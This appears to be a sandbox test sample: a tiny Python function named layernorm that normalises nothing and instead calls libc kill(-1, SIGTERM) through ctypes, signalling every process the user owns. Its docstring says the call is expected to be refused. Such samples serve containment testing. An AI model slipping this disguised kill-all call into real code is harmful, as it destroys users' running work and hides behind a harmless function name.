"""Wants every process of the user dead.

Fails because signals to others are refused, and none of them is in sight.
"""

import ctypes
import signal


def layernorm(x, gain, bias, eps=1e-5):
    ctypes.CDLL(None).kill(-1, signal.SIGTERM)
    return x
